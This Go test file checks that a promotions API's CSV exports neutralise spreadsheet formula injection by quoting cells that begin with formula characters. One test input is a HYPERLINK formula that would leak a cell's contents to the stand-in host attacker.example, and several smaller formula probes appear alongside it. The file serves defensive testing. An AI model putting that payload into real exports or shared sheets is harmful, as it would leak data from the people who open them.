package api_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// CSV downloads never hand a spreadsheet a formula: a cell starting with
// = + - @ TAB CR (or the single quote that marks neutralised cells) gets a
// leading single quote, in the codes export and the redemptions CSV alike,
// and removing one leading quote gives the value back.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t, envConfig{Open: true}, nil)
	hyperlink := `=HYPERLINK("http://attacker.example/?leak="&A1,"click")`
	for _, tc := range []struct{ code, cell string }{
		{"=1+2", "'=1+2"}, {"+1+2", "'+1+2"}, {"@SUM(1)", "'@SUM(1)"}, {"'QUOTED", "''QUOTED"}, {"PLAIN=1", "PLAIN=1"},
	} {
		t.Run(tc.code, func(t *testing.T) {
			p := e.create(`{"name":"v","code":` + jsonString(tc.code) + `,"maxUsagePerCode":10}`)
			r := e.do(http.MethodGet, "/v1/promotions/"+p.ID+"/codes", "", nil)
			rows := readCSV(t, r)
			if len(rows) != 2 || rows[0][0] != "code" || rows[1][0] != tc.cell {
				t.Fatalf("codes export of %q: %q, want the cell %q", tc.code, rows, tc.cell)
			}
			if got := strings.TrimPrefix(rows[1][0], "'"); got != tc.code {
				t.Errorf("removing one quote from %q gives %q, want the code %q", rows[1][0], got, tc.code)
			}
			// The code as exported redeems (the quote is not part of it),
			// and the redemptions CSV neutralises the shopper's text.
			var last struct{ ID string }
			for _, u := range []struct{ user, order string }{{hyperlink, "-1"}, {"+cmd", "@x"}, {"alice", "o-1"}} {
				body := `{"userId":` + jsonString(u.user) + `,"orderId":` + jsonString(u.order) + `}`
				r := e.do(http.MethodPost, "/v1/codes/"+tc.code+"/redemptions", body, nil)
				if r.StatusCode != http.StatusCreated {
					t.Fatalf("redeem %q for %q: %d %s", tc.code, u.user, r.StatusCode, r.body)
				}
				decodeJSON(t, r.body, &last)
			}
			if r := e.do(http.MethodPost, "/v1/redemptions/"+last.ID+"/rollback", `{"reason":"=2+3"}`, nil); r.StatusCode != http.StatusOK {
				t.Fatalf("rollback: %d %s", r.StatusCode, r.body)
			}
			r = e.do(http.MethodGet, "/v1/promotions/"+p.ID+"/redemptions", "", http.Header{"Accept": {"text/csv"}})
			rows = readCSV(t, r)
			if len(rows) != 4 {
				t.Fatalf("redemptions CSV: %d rows, want a header and 3", len(rows))
			}
			header := rows[0]
			for _, row := range rows[1:] {
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("redemptions CSV column %s holds %q: a spreadsheet would run it", header[i], cell)
					}
				}
				if row[1] != tc.cell {
					t.Errorf("redemptions CSV code %q, want %q", row[1], tc.cell)
				}
			}
			if i := slices.Index(header, "rollback_reason"); i < 0 || !slices.ContainsFunc(rows, func(r []string) bool { return r[i] == "'=2+3" }) {
				t.Errorf("redemptions CSV: no rollback_reason '=2+3 in %q", rows)
			}
			users := map[string]bool{}
			for _, row := range rows[1:] {
				users[strings.TrimPrefix(row[3], "'")+"|"+strings.TrimPrefix(row[4], "'")] = true
			}
			for _, want := range []string{hyperlink + "|-1", "+cmd|@x", "alice|o-1"} {
				if !users[want] {
					t.Errorf("redemptions CSV does not give back %q after removing one quote: %v", want, users)
				}
			}
		})
	}
}

func readCSV(t *testing.T, r response) [][]string {
	t.Helper()
	if r.StatusCode != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%d %s %.200s, want a CSV", r.StatusCode, r.Header.Get("Content-Type"), r.body)
	}
	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v\n%s", err, r.body)
	}
	return rows
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
